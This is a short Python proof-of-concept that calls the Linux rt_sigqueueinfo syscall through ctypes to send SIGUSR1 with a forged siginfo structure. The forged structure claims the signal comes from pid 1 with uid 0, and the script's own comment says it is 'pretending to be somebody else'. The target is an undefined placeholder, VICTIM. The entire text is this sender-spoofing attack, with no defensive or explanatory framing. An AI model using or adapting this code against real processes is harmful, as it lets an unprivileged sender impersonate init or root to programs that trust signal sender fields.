# Sends a signal that carries data with rt_sigqueueinfo, pretending to be somebody else.
import ctypes
import os
import struct

libc = ctypes.CDLL(None, use_errno=True)
SI_QUEUE = -1
letter = ctypes.create_string_buffer(struct.pack("iiiiIIq", 10, 0, SI_QUEUE, 0, 1, 0, 42), 128)
print("sent" if libc.syscall(129, VICTIM, 10, letter) == 0 else os.strerror(ctypes.get_errno()))
